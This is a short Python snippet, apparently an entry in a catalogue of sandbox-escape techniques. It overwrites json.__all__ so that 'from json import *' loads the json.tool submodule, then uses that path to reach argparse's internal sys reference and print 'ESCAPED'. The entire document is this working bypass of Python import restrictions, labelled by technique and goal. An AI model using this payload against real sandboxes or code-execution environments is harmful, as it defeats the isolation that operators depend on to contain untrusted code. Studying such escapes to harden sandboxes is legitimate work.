# technique: __all__ of a granted package extended by a submodule: "import *" loads it
# goal: import
# source: own analysis of importlib._bootstrap
import json
json.__all__ = ['tool']
from json import *
print('ESCAPED %s' % tool.argparse) if tool.argparse._sys else None
